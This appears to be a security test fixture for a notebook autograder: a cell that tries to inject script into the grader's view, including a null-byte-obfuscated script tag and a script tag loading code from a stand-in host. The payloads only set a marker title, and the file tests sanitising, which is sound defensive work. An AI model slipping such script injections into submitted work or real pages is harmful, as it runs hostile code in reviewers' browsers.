# attack: Shows a script to whoever marks.
# gain: marker
# expect: q01=3 q02=3 q03=3

# %% after q01
from IPython.display import HTML, display

display(HTML("<script>document.title = 'marker4711'</script>"))
display(HTML("<scr\0ipt>document.title = 'marker4711'</script><SCRIPT SRC=//marker4711.example.invalid></SCRIPT>"))
